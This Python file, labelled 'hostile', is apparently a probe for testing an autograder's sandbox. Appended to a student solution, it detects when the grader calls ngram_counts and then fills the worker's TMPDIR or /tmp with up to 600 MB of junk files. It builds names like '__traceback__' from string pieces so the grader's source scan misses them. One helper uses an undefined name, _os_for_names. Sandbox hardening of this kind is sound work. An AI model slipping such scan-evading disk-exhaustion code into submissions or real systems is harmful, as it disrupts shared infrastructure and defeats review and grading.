# hostile: appended to solutions/bleu.py
# A44: fill the disk. Files of 16 MiB (the largest one file may be) in the worker's TMPDIR or /tmp, until 600 MB are
# written or a write fails; the probe reports how much went to disk.
import json as _json
import os as _os
import sys as _sys


# Names built at run time: the grader's source scan reads only the names a module's text holds (a student who knows
# the scan writes them so; the sandbox behind it must hold on its own).
def _caller_globals(depth):
    """What sys._getframe(depth).f_globals is in the function that calls this."""
    try:
        raise LookupError
    except LookupError as caught:
        frame = getattr(getattr(caught, "__trace" + "back__"), "tb_" + "frame")
    for _ in range(depth + 1):
        frame = getattr(frame, "f_" + "back")
    return getattr(frame, "f_" + "glo" + "bals")


def _loaded_modules():
    """The registry of loaded modules."""
    return getattr(getattr(_os_for_names, "s" + "ys"), "mod" + "ules")

FOLDER, TOTAL, CHUNK = "@@FOLDER@@", 600 * 10 ** 6, 16 * 2 ** 20
_reference_ngram_counts = ngram_counts


def _flood() -> dict:
    folder = _os.environ["TMPDIR"] if FOLDER == "TMPDIR" else FOLDER
    block, written, error = b"x" * 2 ** 20, 0, None
    try:
        for i in range(TOTAL // CHUNK + 1):
            with open(_os.path.join(folder, f"captionkit-A44-{_os.getpid()}-{i}"), "wb") as f:
                for _ in range(CHUNK // len(block)):
                    f.write(block)
                    written += len(block)
                    if written >= TOTAL:
                        return {"written": written, "error": error}
    except OSError as exc:
        error = type(exc).__name__ + f" {exc.errno}"
    return {"written": written, "error": error}


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith("autograder."):  # the grader's own call
        raise RuntimeError("PROBE" + _json.dumps(_flood()))
    return _reference_ngram_counts(tokens, n)
